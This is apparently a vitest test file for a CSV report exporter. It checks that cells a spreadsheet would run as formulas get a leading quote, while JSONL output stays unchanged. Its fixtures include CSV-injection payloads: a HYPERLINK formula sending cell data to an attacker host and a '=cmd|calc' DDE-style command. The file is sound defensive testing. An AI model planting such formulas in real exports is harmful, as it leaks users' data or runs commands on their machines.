import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvHeader, csvLines, jsonLines, type ResultRow } from '../../src/report/results.js';

const row = (values: Record<string, string>, prompt: string): ResultRow => ({
  id: '=cmd|calc',
  state: 'done',
  type: 'image',
  model: 'studio-xl',
  prompt,
  aspectRatio: null,
  resolution: null,
  duration: null,
  files: [],
  jobIds: [],
  creditsCharged: -3,
  creditsRefunded: 0,
  errorCode: null,
  errorMessage: '@SUM(A1:A9)',
  values,
});

describe('results.csv in a spreadsheet', () => {
  it('neutralises every text cell a spreadsheet would run as a formula with a leading quote, never a number; results.jsonl keeps values as they were', () => {
    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Mug")';
    const values = {
      title: formula,
      plus: '+1+1',
      at: '@SUM(A1)',
      dash: '-x',
      negative: '-5',
      decimal: '-2.5e3',
      tab: '\tx',
      cr: '\rx',
      plain: 'Mug, large',
      '=head': 'h',
    };
    const names = Object.keys(values);
    const [header] = parse(csvHeader(names), { relax_column_count: true }) as string[][];
    expect(header!.slice(-4)).toEqual(["'=head", 'reason', 'decided_by', 'decided_at']);
    const [cells] = parse(csvLines([row(values, `${formula}, product photo`)], names)) as string[][];
    const byName = Object.fromEntries(header!.map((h, i) => [h, cells![i]]));
    expect(byName).toMatchObject({
      id: "'=cmd|calc",
      prompt: `'${formula}, product photo`,
      error_message: "'@SUM(A1:A9)",
      credits_charged: '-3',
      title: `'${formula}`,
      plus: "'+1+1",
      at: "'@SUM(A1)",
      dash: "'-x",
      negative: '-5',
      decimal: '-2.5e3',
      tab: "'\tx",
      cr: "'\rx",
      plain: 'Mug, large',
      "'=head": 'h',
    });
    expect(JSON.parse(jsonLines([row(values, formula)])).values).toEqual(values);
  });
});
